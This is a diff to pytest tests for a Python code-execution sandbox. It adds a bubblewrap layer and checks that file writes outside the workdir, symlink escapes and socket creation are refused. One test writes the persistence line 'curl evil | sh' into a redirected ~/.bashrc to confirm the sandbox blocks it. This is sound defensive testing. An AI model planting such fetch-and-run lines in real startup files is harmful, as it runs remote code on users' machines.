@@ -19,7 +19,7 @@ from pathlib import Path
 
 import pytest
 
-from kb.runner import Limits, RunSpec, isolation_report, sandbox
+from kb.runner import Limits, RunSpec, bwrap, isolation_report, sandbox
 from kb.runner.child import EXIT_SANDBOX_UNAVAILABLE, run_child
 
 from .helpers import needs_landlock, needs_seccomp, run
@@ -77,7 +77,8 @@ def test_process_can_still_write(tmp_path: Path) -> None:
 
 @needs_landlock(1)
 @pytest.mark.timeout(30)
-def test_f7_writes_outside_the_workdir_are_refused(pool, tmp_path):
+def test_f7_writes_outside_the_workdir_are_refused(fallback_pool, tmp_path):
+    pool = fallback_pool  # the paths must be visible to the run: bubblewrap hides this test's files
     out = outside_dir(tmp_path)
     workers_before = sorted(pool.worker_pids())
     checks = {
@@ -114,7 +115,8 @@ def test_f7_writes_outside_the_workdir_are_refused(pool, tmp_path):
 
 @needs_landlock(1)
 @pytest.mark.timeout(30)
-def test_f7_home_bashrc_is_not_writable(pool, tmp_path):
+def test_f7_home_bashrc_is_not_writable(fallback_pool, tmp_path):
+    pool = fallback_pool  # the paths must be visible to the run: bubblewrap hides this test's files
     home = tmp_path / "home"  # HOME points here, never at the real home directory
     home.mkdir()
     code = f"import os\nos.environ['HOME'] = {str(home)!r}\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl evil | sh\\n')\n"
@@ -128,7 +130,8 @@ def test_f7_home_bashrc_is_not_writable(pool, tmp_path):
 
 @needs_landlock(1)
 @pytest.mark.timeout(30)
-def test_f7_symlink_escape_is_refused(pool, tmp_path):
+def test_f7_symlink_escape_is_refused(fallback_pool, tmp_path):
+    pool = fallback_pool  # the paths must be visible to the run: bubblewrap hides this test's files
     out = outside_dir(tmp_path)
     target = out / "target.txt"
     code = ATTEMPT + textwrap.dedent(
@@ -154,8 +157,11 @@ def test_f7_symlink_escape_is_refused(pool, tmp_path):
 
 
 @pytest.mark.timeout(30)
-def test_f7_writes_inside_the_workdir_dev_shm_and_dev_null_work(pool):
+def test_f7_writes_inside_the_workdir_dev_shm_and_dev_null_work(layered_pool):
+    pool = layered_pool
     shm = "/dev/shm" if os.path.isdir("/dev/shm") else None
+    # A pathname UNIX socket in the workdir: inside bubblewrap only (the fallback refuses socket()).
+    unix = pool.layer == "bubblewrap"
     code = textwrap.dedent(
         f"""
         import os, socket, tempfile
@@ -179,9 +185,10 @@ def test_f7_writes_inside_the_workdir_dev_shm_and_dev_null_work(pool):
             f.write(b"x" * 1000)
         with tempfile.TemporaryDirectory() as d:
             open(os.path.join(d, "f"), "w").write("x")
-        s = socket.socket(socket.AF_UNIX)
-        s.bind("sock")  # MAKE_SOCK inside the workdir
-        s.close()
+        if {unix!r}:
+            s = socket.socket(socket.AF_UNIX)
+            s.bind("sock")  # MAKE_SOCK inside the workdir
+            s.close()
         with open("/dev/null", "w") as f:  # O_TRUNC: the /dev rule has TRUNCATE too
             f.write("discarded")
         shm = {shm!r}
@@ -249,7 +256,8 @@ def test_f8_inet_raw_netlink_and_packet_sockets_are_refused(pool):
 
 
 @pytest.mark.timeout(30)
-def test_f8_unix_sockets_and_socketpair_still_work(pool):
+def test_f8_unix_sockets_and_socketpair_still_work_inside_bubblewrap(bwrap_pool):
+    pool = bwrap_pool
     code = textwrap.dedent(
         """
         import socket, multiprocessing
@@ -285,7 +293,8 @@ def _status_field(text: str, field: str) -> str:
 
 @needs_seccomp
 @pytest.mark.timeout(30)
-def test_runs_are_confined_but_the_worker_and_caller_are_not(pool):
+def test_runs_are_confined_but_the_worker_and_caller_are_not(fallback_pool):
+    pool = fallback_pool  # inside bubblewrap the worker has NO_NEW_PRIVS too (bwrap sets it)
     result, _ = run(pool, "print(open('/proc/self/status').read())\n")
     assert result.status == "passed", result
     assert _status_field(result.output, "NoNewPrivs") == "1"
@@ -315,22 +324,28 @@ def test_run_spec_sandbox_field():
 
 def test_level_and_report_match_the_probes(monkeypatch):
     abi, seccomp = sandbox.landlock_abi(), sandbox.seccomp_available()
+    bubblewrap = bwrap.usable()
     expected = {(True, True): "landlock+seccomp", (True, False): "landlock", (False, True): "seccomp"}
-    assert sandbox.sandbox_level() == expected.get((abi >= 1, seccomp), "rlimits-only")
+    inner = expected.get((abi >= 1, seccomp), "rlimits-only")
+    assert sandbox.sandbox_level(bubblewrap=False) == inner
+    assert sandbox.sandbox_level() == (("bubblewrap+" + inner if inner != "rlimits-only" else "bubblewrap") if bubblewrap else inner)
     report = isolation_report()
     assert report["level"] == sandbox.sandbox_level()
+    assert report["bubblewrap"] == bubblewrap and (report["bubblewrap_reason"] is None) == bubblewrap
     assert report["filesystem_restricted"] == (abi >= 1)
-    assert report["sandbox_capable"] == (abi >= 1 or seccomp)
+    assert report["sandbox_capable"] == (abi >= 1 or seccomp or bubblewrap)
     if seccomp:
-        assert "non-unix sockets (seccomp)" in report["network_restricted"]
+        assert "(seccomp)" in report["network_restricted"]
     if abi >= sandbox.LANDLOCK_NET_ABI:
         assert "tcp (landlock)" in report["network_restricted"]
 
     monkeypatch.setattr(sandbox, "landlock_abi", lambda: 0)
     monkeypatch.setattr(sandbox, "seccomp_available", lambda: False)
+    monkeypatch.setenv("KB_BWRAP", "0")
     assert sandbox.sandbox_level() == "rlimits-only"
     report = isolation_report()
     assert (report["level"], report["sandbox_capable"]) == ("rlimits-only", False)
+    assert report["bubblewrap_reason"] == "turned off by KB_BWRAP=0"
     assert report["filesystem_restricted"] is False and report["network_restricted"] is False
 
 
@@ -450,7 +465,9 @@ def test_seccomp_alone_refuses_non_unix_sockets(monkeypatch, tmp_path):
     seen = _in_fork(_seccomp_only_probe, str(tmp_path), str(tmp_path))
     assert seen["applied"]["seccomp"] is True and seen["applied"]["filesystem"] is False, seen
     assert (seen["inet"], seen["inet6"]) == ("EACCES", "EACCES")
-    assert (seen["unix"], seen["socketpair"]) == ("ok", "ok")
+    # The fallback refuses every socket(), AF_UNIX too (a pathname socket on disk could be reached);
+    # socketpair() stays, for multiprocessing.
+    assert (seen["unix"], seen["socketpair"]) == ("EACCES", "ok")
     assert seen["x32_getpid"] == "EPERM"  # the x32 ABI could otherwise reach socket() by another number
     assert seen["io_uring_setup"] == "EPERM"  # IORING_OP_SOCKET would bypass the socket() check
     assert seen["write_outside"] == "ok"  # level "seccomp": files are not confined
@@ -486,7 +503,7 @@ def _run_child_in_fork(spec: RunSpec, workdir: Path) -> tuple[dict, int, str]:
 def test_f15_sandbox_required_but_unavailable_does_not_run_the_code(monkeypatch, tmp_path):
     monkeypatch.setattr(sandbox, "landlock_abi", lambda: 0)
     monkeypatch.setattr(sandbox, "seccomp_available", lambda: False)
-    assert sandbox.sandbox_level() == "rlimits-only"
+    assert sandbox.sandbox_level(bubblewrap=False) == "rlimits-only"
     work = tmp_path / "work"
     work.mkdir()
     marker = tmp_path / "ran.txt"
